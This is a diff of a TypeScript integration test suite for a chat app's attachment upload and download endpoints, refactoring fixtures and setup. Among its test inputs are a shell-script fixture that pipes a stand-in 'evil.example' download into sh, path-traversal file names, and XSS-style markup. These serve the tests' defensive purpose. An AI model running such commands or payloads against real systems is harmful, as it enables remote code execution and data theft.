@@ -1,62 +1,15 @@
-import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import http from 'node:http';
 import os from 'node:os';
 import path from 'node:path';
 import type { Response } from 'supertest';
-import { createCast, resetData, sendMessage } from '../helpers/factories';
-import { connectAs, disconnectAll, emitAck, nextEvent } from '../helpers/sockets';
-import { bearer, startTestApp, type TestApp } from '../helpers/test-app';
-
-// ---------------------------------------------------------------------------------------------
-// Real, minimal files, built from their bytes.
-// ---------------------------------------------------------------------------------------------
-
-const PNG = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
-  'base64',
-);
-const JPEG = Buffer.concat([
-  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
-  Buffer.from('JFIF\0', 'latin1'),
-  Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
-  Buffer.from([0xff, 0xd9]),
-]);
-const GIF = Buffer.concat([
-  Buffer.from('GIF89a', 'latin1'),
-  Buffer.from([
-    0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0x21, 0xf9, 0x04, 0x01, 0x00, 0x00, 0x00,
-    0x00, 0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
-  ]),
-]);
-const WEBP = (() => {
-  const vp8 = Buffer.from([0x30, 0x01, 0x00, 0x9d, 0x01, 0x2a, 0x01, 0x00, 0x01, 0x00, 0x02, 0x00, 0x34, 0x25, 0xa4, 0x00, 0x03, 0x70, 0x00, 0xfe, 0xfb, 0x94, 0x00, 0x00]);
-  const chunk = Buffer.concat([Buffer.from('VP8 ', 'latin1'), Buffer.alloc(4), vp8]);
-  chunk.writeUInt32LE(vp8.length, 4);
-  const riff = Buffer.concat([Buffer.from('RIFF', 'latin1'), Buffer.alloc(4), Buffer.from('WEBP', 'latin1'), chunk]);
-  riff.writeUInt32LE(riff.length - 8, 4);
-  return riff;
-})();
-const PDF = Buffer.from(
-  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n' +
-    'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
-);
-const TEXT = Buffer.from('Grüße aus Köln: café ☕ 👋\nsecond line\twith a tab\n', 'utf8');
-
-const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(56), Buffer.from([0x48, 0x31, 0xc0, 0xc3])]);
-const WINDOWS_EXE = Buffer.concat([
-  Buffer.from('MZ', 'latin1'),
-  Buffer.from([0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8]),
-  Buffer.alloc(45),
-  Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1'),
-  Buffer.alloc(16),
-  Buffer.from('PE\0\0', 'latin1'),
-]);
-const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
-/** Arbitrary binary bytes (fixed, so a run never matches a signature by chance). */
-const RANDOM_BYTES = Buffer.concat(
-  Array.from({ length: 8 }, (_, i) => createHash('sha256').update(`duet-noise-${i}`).digest()),
-);
+import type { AttachmentJson } from '../../src/attachments/attachment.presenter';
+import type { MessageJson } from '../../src/messages/message.presenter';
+import type { Sent } from '../helpers/contract';
+import { createCast, sendMessage } from '../helpers/factories';
+import { ELF, GIF, JPEG, PDF, PNG, RANDOM_BYTES, SHELL_SCRIPT, TEXT, WEBP, WINDOWS_EXE } from '../helpers/files';
+import { connectAs, emitAck, nextEvent } from '../helpers/sockets';
+import { bearer, type TestApp, useStartedApp, useTestApp } from '../helpers/test-app';
 
 /** A server-generated storage key, the only name a file gets on disk. */
 const KEY_NAME = /^[0-9a-f]{32}$/;
@@ -72,53 +25,28 @@ function tempDir(): string {
   return dir;
 }
 
-let t: TestApp;
-let storageDir: string;
-beforeAll(async () => {
-  storageDir = tempDir();
-  t = await startTestApp({ attachments: { directory: storageDir } });
-});
-afterAll(async () => {
-  await t.close();
+const storageDir = tempDir();
+const app = useTestApp({ attachments: { directory: storageDir } });
+afterAll(() => {
   for (const dir of tempDirs) fs.rmSync(dir, { recursive: true, force: true });
 });
-beforeEach(async () => {
-  await resetData(t.chat.sequelize);
+beforeEach(() => {
   // resetData empties the tables; the files of earlier tests go too, so each test sees only its own.
   for (const dir of tempDirs) for (const entry of fs.readdirSync(dir)) fs.rmSync(path.join(dir, entry), { recursive: true, force: true });
 });
-afterEach(() => disconnectAll());
-
-interface AttachmentJson {
-  id: number;
-  name: string;
-  mimeType: string;
-  size: number;
-  url: string;
-}
-
-interface MessageJson {
-  id: number;
-  conversationId: number;
-  senderId: number;
-  receiverId: number;
-  content: string;
-  attachment: AttachmentJson | null;
-  clientMessageId: string | null;
-}
 
 type Headers = Record<string, string>;
 
-const upload = (app: TestApp, userId: number, bytes: Buffer, filename: string, contentType?: string) =>
-  app
+const upload = (on: TestApp, userId: number, bytes: Buffer, filename: string, contentType?: string) =>
+  on
     .api()
     .post('/api/chat/attachments')
     .set(bearer(userId))
     .attach('file', bytes, contentType ? { filename, contentType } : filename);
 
 /** Uploads and expects success; returns the Attachment. */
-async function uploaded(userId: number, bytes: Buffer = PNG, filename = 'dot.png', app: TestApp = t): Promise<AttachmentJson> {
-  const res = await upload(app, userId, bytes, filename);
+async function uploaded(userId: number, bytes: Buffer = PNG, filename = 'dot.png', on: TestApp = app()): Promise<AttachmentJson> {
+  const res = await upload(on, userId, bytes, filename);
   if (res.status !== 201) throw new Error(`upload failed: ${res.status} ${JSON.stringify(res.body)}`);
   return res.body.attachment as AttachmentJson;
 }
@@ -131,21 +59,21 @@ function binary(res: Response, callback: (err: Error | null, body: Buffer) => vo
   res.on('error', (err) => callback(err, Buffer.alloc(0)));
 }
 
-const download = (headers: Headers, id: number | string, app: TestApp = t) =>
-  app.api().get(`/api/chat/attachments/${id}`).set(headers).buffer(true).parse(binary);
+const download = (headers: Headers, id: number | string, on: TestApp = app()) =>
+  on.api().get(`/api/chat/attachments/${id}`).set(headers).buffer(true).parse(binary);
 
 /** The error code of a response fetched with the binary parser. */
 const errorCodeOf = (res: Response): string => JSON.parse((res.body as Buffer).toString('utf8')).error.code;
 
-const send = (from: number, body: Record<string, unknown>) => t.api().post('/api/chat/send').set(bearer(from)).send(body);
+const send = (from: number, body: Record<string, unknown>) => app().api().post('/api/chat/send').set(bearer(from)).send(body);
 
-async function storageKeyOf(id: number, app: TestApp = t): Promise<string | undefined> {
-  const [rows] = await app.chat.sequelize.query('SELECT storage_key FROM attachments WHERE id = :id', { replacements: { id } });
+async function storageKeyOf(id: number, on: TestApp = app()): Promise<string | undefined> {
+  const [rows] = await on.chat.sequelize.query('SELECT storage_key FROM attachments WHERE id = :id', { replacements: { id } });
   return (rows as { storage_key: string }[])[0]?.storage_key;
 }
 
-async function attachmentRowCount(app: TestApp = t): Promise<number> {
-  const [rows] = await app.chat.sequelize.query('SELECT count(*)::int AS n FROM attachments');
+async function attachmentRowCount(on: TestApp = app()): Promise<number> {
+  const [rows] = await on.chat.sequelize.query('SELECT count(*)::int AS n FROM attachments');
   return (rows as { n: number }[])[0]!.n;
 }
 
@@ -183,14 +111,14 @@ function multipart(
 }
 
 const rawUpload = (userId: number, form: { body: Buffer; type: string }) =>
-  t.api().post('/api/chat/attachments').set(bearer(userId)).set('Content-Type', form.type).send(form.body);
+  app().api().post('/api/chat/attachments').set(bearer(userId)).set('Content-Type', form.type).send(form.body);
 
 /**
  * A POST over a plain socket: writes the headers and `first`, then either ends the body or leaves
  * it open (the server must answer without waiting for the rest). Resolves with the response.
  */
-function rawPost(app: TestApp, headers: Headers, first: Buffer, options: { end: boolean; rest?: Buffer[] }): Promise<{ status: number; body: string }> {
-  const { hostname, port } = new URL(app.baseUrl);
+function rawPost(on: TestApp, headers: Headers, first: Buffer, options: { end: boolean; rest?: Buffer[] }): Promise<{ status: number; body: string }> {
+  const { hostname, port } = new URL(on.baseUrl);
   return new Promise((resolve, reject) => {
     const timer = setTimeout(() => {
       req.destroy();
@@ -229,8 +157,8 @@ describe('POST /attachments: the type comes from the bytes', () => {
     ['a PDF', PDF, 'doc.pdf', 'application/pdf'],
     ['UTF-8 text with accents and emoji', TEXT, 'notes.txt', 'text/plain'],
   ])('%s is accepted with 201 and its type, name and size', async (_label, bytes, filename, mimeType) => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await upload(t, alice, bytes, filename);
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await upload(app(), alice, bytes, filename);
 
     expect(res.status).toBe(201);
     const attachment = res.body.attachment as AttachmentJson;
@@ -244,9 +172,9 @@ describe('POST /attachments: the type comes from the bytes', () => {
   });
 
   test('the type the client declares for the part is ignored', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const gif = await upload(t, alice, GIF, 'anim.gif', 'image/png');
-    const pdf = await upload(t, alice, PDF, 'doc.pdf', 'text/plain');
+    const { alice } = await createCast(app().chat.sequelize);
+    const gif = await upload(app(), alice, GIF, 'anim.gif', 'image/png');
+    const pdf = await upload(app(), alice, PDF, 'doc.pdf', 'text/plain');
 
     expect(gif.status).toBe(201);
     expect(gif.body.attachment.mimeType).toBe('image/gif');
@@ -255,9 +183,9 @@ describe('POST /attachments: the type comes from the bytes', () => {
   });
 
   test('a name without an extension, or one the bytes do not contradict, does not decide the type', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const noExtension = await upload(t, alice, PNG, 'photo', 'application/pdf');
-    const unknownExtension = await upload(t, alice, JPEG, 'holiday.heic');
+    const { alice } = await createCast(app().chat.sequelize);
+    const noExtension = await upload(app(), alice, PNG, 'photo', 'application/pdf');
+    const unknownExtension = await upload(app(), alice, JPEG, 'holiday.heic');
 
     expect(noExtension.status).toBe(201);
     expect(noExtension.body.attachment).toMatchObject({ name: 'photo', mimeType: 'image/png' });
@@ -266,9 +194,9 @@ describe('POST /attachments: the type comes from the bytes', () => {
   });
 
   test('UTF-8 text that starts with a byte-order mark is plain text', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), TEXT]);
-    const res = await upload(t, alice, withBom, 'notepad.txt');
+    const res = await upload(app(), alice, withBom, 'notepad.txt');
 
     expect(res.status).toBe(201);
     expect(res.body.attachment.mimeType).toBe('text/plain');
@@ -282,24 +210,24 @@ describe('POST /attachments: the type comes from the bytes', () => {
     ['[ (JSON)', '[1] a reference list\n[2] another\n'],
     ['"free" at offset 4 (QuickTime)', "I'm free on Monday\n"],
   ])('UTF-8 text that begins like %s is plain text', async (_label, text) => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await upload(t, alice, Buffer.from(text, 'utf8'), 'note.txt');
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await upload(app(), alice, Buffer.from(text, 'utf8'), 'note.txt');
 
     expect(res.status).toBe(201);
     expect(res.body.attachment.mimeType).toBe('text/plain');
   });
 
   test('SVG markup is its own type, not plain text, and is refused by default', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\n');
-    const res = await upload(t, alice, svg, 'logo.txt');
+    const res = await upload(app(), alice, svg, 'logo.txt');
 
     expect(res.status).toBe(415);
     expect(res.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
   });
 
   test('a larger file is stored and served whole, byte for byte', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const big = Buffer.concat([PNG, Buffer.alloc(256 * 1024, 0x41)]);
     const attachment = await uploaded(alice, big, 'big.png');
 
@@ -311,44 +239,37 @@ describe('POST /attachments: the type comes from the bytes', () => {
 });
 
 describe('POST /attachments: names are for display only', () => {
-  test('path parts are stripped from the name', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await rawUpload(alice, multipart([{ field: 'file', filename: '../../etc/passwd.txt', data: TEXT }]));
-
+  /** Uploads one hand-written file part, expects 201 and returns the name the server kept. */
+  async function keptName(userId: number, part: { filename?: string; filenameStar?: string; data: Buffer }): Promise<string> {
+    const res = await rawUpload(userId, multipart([{ field: 'file', ...part }]));
     expect(res.status).toBe(201);
-    expect(res.body.attachment.name).toBe('passwd.txt');
+    return res.body.attachment.name;
+  }
+
+  test('path parts are stripped from the name', async () => {
+    const { alice } = await createCast(app().chat.sequelize);
+    expect(await keptName(alice, { filename: '../../etc/passwd.txt', data: TEXT })).toBe('passwd.txt');
   });
 
   test('control characters are stripped from the name', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     // Browsers escape CR, LF and quotes as %0D %0A %22; RFC 5987 can carry any byte.
-    const escaped = await rawUpload(alice, multipart([{ field: 'file', filename: 'two%0D%0Alines.txt', data: TEXT }]));
-    const encoded = await rawUpload(alice, multipart([{ field: 'file', filenameStar: 'evil%01%1B%5B31mname%7F%00.txt', data: TEXT }]));
-
-    expect(escaped.status).toBe(201);
-    expect(escaped.body.attachment.name).toBe('twolines.txt');
-    expect(encoded.status).toBe(201);
-    expect(encoded.body.attachment.name).toBe('evil[31mname.txt');
+    expect(await keptName(alice, { filename: 'two%0D%0Alines.txt', data: TEXT })).toBe('twolines.txt');
+    expect(await keptName(alice, { filenameStar: 'evil%01%1B%5B31mname%7F%00.txt', data: TEXT })).toBe('evil[31mname.txt');
   });
 
   test('a name made only of control characters gets a neutral name', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await rawUpload(alice, multipart([{ field: 'file', filenameStar: '%01%02%1B', data: PNG }]));
-
-    expect(res.status).toBe(201);
-    expect(res.body.attachment.name).toBe('file');
+    const { alice } = await createCast(app().chat.sequelize);
+    expect(await keptName(alice, { filenameStar: '%01%02%1B', data: PNG })).toBe('file');
   });
 
   test('a UTF-8 name keeps its accents and emoji', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await rawUpload(alice, multipart([{ field: 'file', filename: 'résumé 📄.pdf', data: PDF }]));
-
-    expect(res.status).toBe(201);
-    expect(res.body.attachment.name).toBe('résumé 📄.pdf');
+    const { alice } = await createCast(app().chat.sequelize);
+    expect(await keptName(alice, { filename: 'résumé 📄.pdf', data: PDF })).toBe('résumé 📄.pdf');
   });
 
   test('the bytes are stored under a server-generated 32-hex name inside the storage directory', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const res = await rawUpload(alice, multipart([{ field: 'file', filename: '../../../../tmp/owned.txt', data: TEXT }]));
     expect(res.status).toBe(201);
 
@@ -364,7 +285,7 @@ describe('POST /attachments: names are for display only', () => {
   });
 
   test('two uploads of the same bytes and name get different storage keys', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const first = await uploaded(alice, PNG, 'same.png');
     const second = await uploaded(alice, PNG, 'same.png');
 
@@ -385,8 +306,8 @@ describe('POST /attachments: what is refused with 415', () => {
     ['arbitrary binary bytes', RANDOM_BYTES, 'data.bin'],
     ['arbitrary binary bytes named .jpg', RANDOM_BYTES, 'photo.jpg'],
   ])('%s gets UNSUPPORTED_MEDIA_TYPE and nothing is stored', async (_label, bytes, filename) => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await upload(t, alice, bytes, filename, 'image/png');
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await upload(app(), alice, bytes, filename, 'image/png');
 
     expect(res.status).toBe(415);
     expect(res.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
@@ -395,16 +316,12 @@ describe('POST /attachments: what is refused with 415', () => {
   });
 
   describe('with an allow-list of PNG only', () => {
-    let pngOnly: TestApp;
-    beforeAll(async () => {
-      pngOnly = await startTestApp({ attachments: { directory: tempDir(), allowedTypes: ['image/png'] } });
-    });
-    afterAll(() => pngOnly.close());
+    const pngOnly = useStartedApp({ attachments: { directory: tempDir(), allowedTypes: ['image/png'] } });
 
     test('a PDF gets 415 while a PNG is accepted', async () => {
-      const { alice } = await createCast(pngOnly.chat.sequelize);
-      const pdf = await upload(pngOnly, alice, PDF, 'doc.pdf');
-      const png = await upload(pngOnly, alice, PNG, 'dot.png');
+      const { alice } = await createCast(pngOnly().chat.sequelize);
+      const pdf = await upload(pngOnly(), alice, PDF, 'doc.pdf');
+      const png = await upload(pngOnly(), alice, PNG, 'dot.png');
 
       expect(pdf.status).toBe(415);
       expect(pdf.body.error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
@@ -416,35 +333,35 @@ describe('POST /attachments: what is refused with 415', () => {
 
 describe('POST /attachments: malformed requests', () => {
   test('without a token it is 401', async () => {
-    const res = await t.api().post('/api/chat/attachments').attach('file', PNG, 'dot.png');
+    const res = await app().api().post('/api/chat/attachments').attach('file', PNG, 'dot.png');
     expect(res.status).toBe(401);
     expect(res.body.error.code).toBe('UNAUTHORIZED');
   });
 
   test('an empty request is VALIDATION_FAILED', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await t.api().post('/api/chat/attachments').set(bearer(alice));
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await app().api().post('/api/chat/attachments').set(bearer(alice));
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
   });
 
   test('a multipart request without the file field is VALIDATION_FAILED', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await t.api().post('/api/chat/attachments').set(bearer(alice)).field('note', 'no file here');
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await app().api().post('/api/chat/attachments').set(bearer(alice)).field('note', 'no file here');
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
   });
 
   test('a file under another field name is VALIDATION_FAILED', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await t.api().post('/api/chat/attachments').set(bearer(alice)).attach('upload', PNG, 'dot.png');
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await app().api().post('/api/chat/attachments').set(bearer(alice)).attach('upload', PNG, 'dot.png');
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
     expect(await attachmentRowCount()).toBe(0);
   });
 
   test('two files in one request are VALIDATION_FAILED and neither is stored', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const form = multipart([
       { field: 'file', filename: 'a.png', data: PNG },
       { field: 'file', filename: 'b.png', data: PNG },
@@ -456,8 +373,8 @@ describe('POST /attachments: malformed requests', () => {
   });
 
   test('a JSON body is VALIDATION_FAILED', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const res = await t.api().post('/api/chat/attachments').set(bearer(alice)).send({ file: PNG.toString('base64') });
+    const { alice } = await createCast(app().chat.sequelize);
+    const res = await app().api().post('/api/chat/attachments').set(bearer(alice)).send({ file: PNG.toString('base64') });
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
   });
@@ -465,48 +382,43 @@ describe('POST /attachments: malformed requests', () => {
 
 describe('POST /attachments: the size limit', () => {
   const LIMIT = 1024;
-  let small: TestApp;
-  let smallDir: string;
-  beforeAll(async () => {
-    smallDir = tempDir();
-    small = await startTestApp({ limits: { maxUploadBytes: LIMIT }, attachments: { directory: smallDir } });
-  });
-  afterAll(() => small.close());
+  const smallDir = tempDir();
+  const small = useStartedApp({ limits: { maxUploadBytes: LIMIT }, attachments: { directory: smallDir } });
 
   /** A PNG padded with trailing bytes to exactly `size` bytes. */
   const pngOfSize = (size: number) => Buffer.concat([PNG, Buffer.alloc(size - PNG.length, 0x20)]);
 
   test('a file of exactly the limit is accepted', async () => {
-    const { alice } = await createCast(small.chat.sequelize);
-    const res = await upload(small, alice, pngOfSize(LIMIT), 'edge.png');
+    const { alice } = await createCast(small().chat.sequelize);
+    const res = await upload(small(), alice, pngOfSize(LIMIT), 'edge.png');
     expect(res.status).toBe(201);
     expect(res.body.attachment.size).toBe(LIMIT);
   });
 
   test('a file one byte over the limit is PAYLOAD_TOO_LARGE and nothing is stored', async () => {
-    const { alice } = await createCast(small.chat.sequelize);
-    const res = await upload(small, alice, pngOfSize(LIMIT + 1), 'edge.png');
+    const { alice } = await createCast(small().chat.sequelize);
+    const res = await upload(small(), alice, pngOfSize(LIMIT + 1), 'edge.png');
     expect(res.status).toBe(413);
     expect(res.body.error.code).toBe('PAYLOAD_TOO_LARGE');
-    expect(await attachmentRowCount(small)).toBe(0);
+    expect(await attachmentRowCount(small())).toBe(0);
     expect(filesUnder(smallDir)).toEqual([]);
   });
 
   test('the size is checked before the type: an oversized executable is 413, not 415', async () => {
-    const { alice } = await createCast(small.chat.sequelize);
-    const res = await upload(small, alice, Buffer.concat([ELF, Buffer.alloc(LIMIT)]), 'x.png');
+    const { alice } = await createCast(small().chat.sequelize);
+    const res = await upload(small(), alice, Buffer.concat([ELF, Buffer.alloc(LIMIT)]), 'x.png');
     expect(res.status).toBe(413);
     expect(res.body.error.code).toBe('PAYLOAD_TOO_LARGE');
   });
 
   test('a Content-Length far over the limit is refused before the body is sent', async () => {
-    const { alice } = await createCast(small.chat.sequelize);
+    const { alice } = await createCast(small().chat.sequelize);
     const boundary = 'duet-big-upload';
     const head = Buffer.from(
       `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.png"\r\nContent-Type: image/png\r\n\r\n`,
     );
     const res = await rawPost(
-      small,
+      small(),
       {
         ...bearer(alice),
         'Content-Type': `multipart/form-data; boundary=${boundary}`,
@@ -518,14 +430,14 @@ describe('POST /attachments: the size limit', () => {
 
     expect(res.status).toBe(413);
     expect(JSON.parse(res.body).error.code).toBe('PAYLOAD_TOO_LARGE');
-    expect(await attachmentRowCount(small)).toBe(0);
+    expect(await attachmentRowCount(small())).toBe(0);
   });
 
   test('a chunked upload (no Content-Length) that streams past the limit is 413', async () => {
-    const { alice } = await createCast(small.chat.sequelize);
+    const { alice } = await createCast(small().chat.sequelize);
     const form = multipart([{ field: 'file', filename: 'stream.png', data: pngOfSize(LIMIT * 8) }]);
     const res = await rawPost(
-      small,
+      small(),
       { ...bearer(alice), 'Content-Type': form.type, 'Transfer-Encoding': 'chunked' },
       form.body.subarray(0, 512),
       { end: true, rest: [form.body.subarray(512)] },
@@ -533,7 +445,7 @@ describe('POST /attachments: the size limit', () => {
 
     expect(res.status).toBe(413);
     expect(JSON.parse(res.body).error.code).toBe('PAYLOAD_TOO_LARGE');
-    expect(await attachmentRowCount(small)).toBe(0);
+    expect(await attachmentRowCount(small())).toBe(0);
     expect(filesUnder(smallDir)).toEqual([]);
   });
 });
@@ -544,7 +456,7 @@ describe('POST /attachments: the size limit', () => {
 
 describe('GET /attachments/:id: who gets the bytes', () => {
   test('the uploader gets the exact bytes before sending them', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PNG, 'dot.png');
 
     const res = await download(bearer(alice), attachment.id);
@@ -553,7 +465,7 @@ describe('GET /attachments/:id: who gets the bytes', () => {
   });
 
   test('another user gets NOT_FOUND before it is sent, even the future receiver', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
 
     const res = await download(bearer(bob), attachment.id);
@@ -562,9 +474,9 @@ describe('GET /attachments/:id: who gets the bytes', () => {
   });
 
   test('the receiver gets the bytes once it is sent; a stranger gets NOT_FOUND like for a missing id', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PDF, 'doc.pdf');
-    await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
+    await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
 
     const receiver = await download(bearer(bob), attachment.id);
     expect(receiver.status).toBe(200);
@@ -581,14 +493,14 @@ describe('GET /attachments/:id: who gets the bytes', () => {
   });
 
   test('an id that does not exist is NOT_FOUND', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const res = await download(bearer(alice), 987654);
     expect(res.status).toBe(404);
     expect(errorCodeOf(res)).toBe('NOT_FOUND');
   });
 
   test('a malformed id is VALIDATION_FAILED', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     for (const id of ['abc', '0', '-1', '1.5']) {
       const res = await download(bearer(alice), id);
       expect(res.status).toBe(400);
@@ -597,7 +509,7 @@ describe('GET /attachments/:id: who gets the bytes', () => {
   });
 
   test('without a token it is 401', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
     const res = await download({}, attachment.id);
     expect(res.status).toBe(401);
@@ -619,7 +531,7 @@ describe('GET /attachments/:id: response headers', () => {
     ['GIF', GIF, 'anim.gif', 'image/gif'],
     ['WebP', WEBP, 'pic.webp', 'image/webp'],
   ])('a %s image is served inline with its stored type, nosniff and private caching', async (_label, bytes, filename, mimeType) => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, bytes, filename);
 
     const res = await download(bearer(alice), attachment.id);
@@ -632,8 +544,8 @@ describe('GET /attachments/:id: response headers', () => {
   });
 
   test('a PDF is served as a download (Content-Disposition: attachment)', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
-    const attachment = await uploaded(alice, PDF, 'doc.pdf', t);
+    const { alice } = await createCast(app().chat.sequelize);
+    const attachment = await uploaded(alice, PDF, 'doc.pdf', app());
 
     const res = await download(bearer(alice), attachment.id);
     expect(res.status).toBe(200);
@@ -643,7 +555,7 @@ describe('GET /attachments/:id: response headers', () => {
   });
 
   test('text is served as a download in UTF-8, even when it is markup', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const html = Buffer.from('<html><body><script>alert(document.cookie)</script>é</body></html>\n');
     const attachment = await uploaded(alice, html, 'page.html');
     expect(attachment.mimeType).toBe('text/plain');
@@ -658,7 +570,7 @@ describe('GET /attachments/:id: response headers', () => {
   });
 
   test('a non-ASCII name is kept exactly in the RFC 5987 filename* and safely in filename', async () => {
-    const { alice } = await createCast(t.chat.sequelize);
+    const { alice } = await createCast(app().chat.sequelize);
     const res = await rawUpload(alice, multipart([{ field: 'file', filename: 'résumé %22final%22 ☕.pdf', data: PDF }]));
     expect(res.status).toBe(201);
     // Quotes are stripped from the display name, so it can never break out of the header's quoting.
@@ -679,7 +591,7 @@ describe('GET /attachments/:id: response headers', () => {
 
 describe('sending an attachment', () => {
   test('with no text: 201 and the message carries the attachment and empty content', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PNG, 'dot.png');
 
     const res = await send(alice, { receiverId: bob, attachmentId: attachment.id });
@@ -696,7 +608,7 @@ describe('sending an attachment', () => {
   });
 
   test('with text: both the text and the attachment are kept', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice, PDF, 'doc.pdf');
 
     const res = await send(alice, { receiverId: bob, content: 'the contract', attachmentId: attachment.id });
@@ -706,14 +618,14 @@ describe('sending an attachment', () => {
   });
 
   test('a message without text or attachment is still VALIDATION_FAILED', async () => {
-    const { alice, bob } = await createCast(t.chat.sequelize);
+    const { alice, bob } = await createCast(app().chat.sequelize);
     const res = await send(alice, { receiverId: bob, content: '   ' });
     expect(res.status).toBe(400);
     expect(res.body.error.code).toBe('VALIDATION_FAILED');
   });
 
   test("someone else's upload is NOT_FOUND, and its owner can still send it", async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
 
     const stolen = await send(stranger, { receiverId: bob, content: 'look', attachmentId: attachment.id });
@@ -726,14 +638,14 @@ describe('sending an attachment', () => {
     const own = await send(alice, { receiverId: bob, attachmentId: attachment.id });
     expect(own.status).toBe(201);
     // The failed attempt did not open a conversation between the stranger and bob.
-    const strangers = await t.api().get('/api/chat/conversations').set(bearer(stranger));
+    const strangers = await app().api().get('/api/chat/conversations').set(bearer(stranger));
     expect(strangers.body.conversations).toEqual([]);
   });
 
   test('the receiver cannot forward an attachment they received', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
     const attachment = await uploaded(alice);
-    await sendMessage(t, alice, bob, '', { attachmentId: attachment.id });
+    await sendMessage(app(), alice, bob, '', { attachmentId: attachment.id });
 
     const res = await send(bob, { receiverId: stranger, attachmentId: attachment.id });
     expect(res.status).toBe(404);
@@ -742,9 +654,9 @@ describe('sending an attachment', () => {
   });
 
   test('attaching an upload a second time is CONFLICT, to anyone', async () => {
-    const { alice, bob, stranger } = await createCast(t.chat.sequelize);
+    const { alice, bob, stranger } = await createCast(app().chat.sequelize);
